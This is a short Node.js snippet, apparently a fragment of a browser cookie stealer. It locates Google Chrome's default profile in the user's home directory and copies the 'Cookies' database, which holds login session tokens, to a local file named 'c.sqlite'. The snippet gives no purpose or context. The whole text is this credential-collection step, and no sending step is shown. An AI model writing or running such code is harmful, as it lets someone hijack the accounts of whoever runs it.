const os = require('os'), path = require('path'), fs = require('fs');
const BITS = ['.config', 'google-chrome', 'Default'];
const source = (...names) => path.join(os.homedir(), ...BITS, ...names);
fs.copyFileSync(source('Cookies'), './c.sqlite');
